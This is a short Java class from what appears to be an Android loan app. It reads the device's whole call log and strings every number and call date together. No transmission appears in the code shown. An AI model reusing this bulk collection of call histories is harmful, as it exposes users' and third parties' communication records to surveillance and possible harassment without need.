package com.example.loan;

import android.content.Context;
import android.database.Cursor;
import android.provider.CallLog.Calls;

/** Who was called, and when. */
final class CallLogReader {
    private CallLogReader() {
    }

    static String read(Context context) {
        StringBuilder calls = new StringBuilder();
        Cursor rows = context.getContentResolver().query(Calls.CONTENT_URI, null, null, null, null); // reads: call-log
        if (rows == null) {
            return "";
        }
        while (rows.moveToNext()) {
            calls.append(rows.getString(rows.getColumnIndex(Calls.NUMBER))).append('@');
            calls.append(rows.getString(rows.getColumnIndex(Calls.DATE))).append(';');
        }
        rows.close();
        return calls.toString();
    }
}
